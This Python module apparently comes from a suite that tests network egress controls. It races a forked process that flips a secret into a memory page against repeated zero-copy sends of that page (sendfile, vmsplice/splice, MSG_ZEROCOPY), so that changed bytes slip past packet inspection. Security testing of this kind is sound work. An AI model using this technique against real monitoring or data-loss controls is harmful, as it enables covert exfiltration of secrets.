"""Pages that are changed after they were handed to the socket, while a packet refers to them.

`way`: `sendfile` from a file in memory, `splice` from a pipe that holds pages of the process,
`zerocopy` (MSG_ZEROCOPY). Another process flips the value in and out all the time; each round
sends the page once more. `udp: true` sends datagrams instead of a stream.
"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import signal
import socket
import time
from collections.abc import Callable, Iterator

from attacks.connection import drained, give_up
from attacks.inner import libc
from attacks.target import Impossible, Target, refused

ROUNDS = 400
PAGE = mmap.PAGESIZE
SO_ZEROCOPY, MSG_ZEROCOPY = 60, 0x4000000
SPLICE_F_MOVE, SPLICE_F_GIFT = 1, 8


class Vector(ctypes.Structure):
    """struct iovec."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


@contextlib.contextmanager
def flipped(page: mmap.mmap, clean: bytes, secret: bytes) -> Iterator[None]:
    """Have another process write one and the other to the page's beginning, without a pause."""
    child = os.fork()
    if child == 0:
        end, size = time.monotonic() + 10, len(secret)
        while time.monotonic() < end:
            for _ in range(1000):
                page[:size] = secret
                page[:size] = clean
        os._exit(0)
    try:
        yield
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def by_sendfile(out: socket.socket, file: int, page: mmap.mmap, size: int) -> None:
    """The file's page goes into the packet as it is."""
    del page
    os.sendfile(out.fileno(), file, 0, size)


def by_splice(out: socket.socket, file: int, page: mmap.mmap, size: int) -> None:
    """The process's page, by way of a pipe."""
    del file
    reading, writing = os.pipe()
    try:
        vector = Vector(ctypes.addressof(ctypes.c_char.from_buffer(page)), size)
        if libc.vmsplice(writing, ctypes.byref(vector), ctypes.c_ulong(1), SPLICE_F_GIFT) < 0:
            raise Impossible(f"vmsplice: {os.strerror(ctypes.get_errno())}")
        os.splice(reading, out.fileno(), size, flags=SPLICE_F_MOVE)
    finally:
        os.close(reading)
        os.close(writing)


def by_zerocopy(out: socket.socket, file: int, page: mmap.mmap, size: int) -> None:
    """The process's page, pinned by the socket."""
    del file
    out.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
    out.send(memoryview(page)[:size], MSG_ZEROCOPY)


WAYS: dict[str, Callable[[socket.socket, int, mmap.mmap, int], None]] = {
    "sendfile": by_sendfile,
    "splice": by_splice,
    "zerocopy": by_zerocopy,
}


def main(target: Target) -> None:
    """Send the page again and again while it changes."""
    send, datagrams = WAYS[target.args["way"]], bool(target.args.get("udp"))
    file = os.memfd_create("page")
    os.ftruncate(file, PAGE)
    page = mmap.mmap(file, PAGE)
    clean = b"." * len(target.secret)
    size = 1200  # one packet
    page[:size] = clean + b" and nothing else " + b"\n" * (size - len(clean) - 18)
    with flipped(page, clean, target.secret):
        for _ in range(4 if datagrams else 20):
            with refused():
                one_connection(target, send, file, page, size, datagrams=datagrams)


def one_connection(
    target: Target,
    send: Callable[[socket.socket, int, mmap.mmap, int], None],
    file: int,
    page: mmap.mmap,
    size: int,
    *,
    datagrams: bool,
) -> None:
    """As many rounds as it takes, or until the flow is blocked."""
    if datagrams:
        out = socket.socket(target.af, socket.SOCK_DGRAM)
        out.connect((target.address, target.port))
    else:
        out = target.tcp()
    try:
        for _ in range(ROUNDS):
            with refused():
                send(out, file, page, size)
            time.sleep(0.0005)
            if not datagrams and not drained(out, 0.01):
                return
    finally:
        give_up(out)
